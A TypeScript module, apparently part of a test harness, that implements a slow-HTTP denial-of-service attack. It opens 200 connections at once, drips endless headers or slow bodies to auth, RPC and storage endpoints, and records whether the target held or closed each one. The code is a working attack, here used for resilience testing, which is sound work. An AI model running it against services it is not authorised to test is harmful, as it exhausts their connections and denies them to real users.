/** Connections that send a byte now and then: headers without end, and bodies. */
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { pick } from '../../chance.ts';
import type { Attack, Scene } from '../attack.ts';
import { keyed } from '../headers.ts';
import { unfailing } from '../record.ts';
import { send } from '../request.ts';

/** Pause between two pieces, and how long a strike holds its connection, milliseconds. */
const DRIP_MS = 500;
const HOLD_MS = 8_000;
const DECLARED = 60_000;

async function* drips(piece: Buffer, signal: AbortSignal): AsyncGenerator<Buffer> {
  const end = performance.now() + HOLD_MS;
  while (performance.now() < end && !signal.aborted) {
    yield piece;
    await pause(DRIP_MS, undefined, { signal }).catch(() => {});
  }
}

/** Opens a connection and never ends the headers of its request. */
async function dripHeaders({ target, record, address, signal }: Scene): Promise<void> {
  const { hostname, port } = new URL(target.url);
  const socket = connect({ host: hostname, port: Number(port), localAddress: address() });
  let isClosed = false;
  socket.on('error', () => {});
  socket.on('close', () => (isClosed = true));
  socket.resume();
  socket.write('POST /auth/v1/token HTTP/1.1\r\nHost: 127.0.0.1\r\n');
  for await (const piece of drips(Buffer.from('X-a: b\r\n'), signal)) {
    if (isClosed) break;
    socket.write(piece);
  }
  record.count(isClosed ? 'closed' : 'held');
  socket.destroy();
}

async function dripBody(scene: Scene): Promise<void> {
  const { target, record, random, address, signal } = scene;
  const path = pick(
    [
      '/auth/v1/token?grant_type=password',
      '/rest/v1/rpc/import_students',
      '/storage/v1/object/documents/x/y',
    ],
    random,
  );
  const headers = { ...keyed(scene), 'content-type': 'application/json', 'content-length': String(DECLARED) };
  const answer = await send(target.url, {
    from: address(),
    method: 'POST',
    path,
    headers,
    body: drips(Buffer.from(' '), signal),
    limitMs: HOLD_MS,
    signal,
  });
  record.answer(`POST ${path}, slowly`, answer, unfailing);
}

export const slow: Attack = {
  name: 'slow lines',
  sends: 'headers and bodies, a byte every half second, 200 connections at once',
  unharmed: 'nothing, a refusal, or an end of the connection',
  lanes: 200,
  pauseMs: 500,
  strike: (scene) => (scene.random() < 0.5 ? dripHeaders(scene) : dripBody(scene)),
};
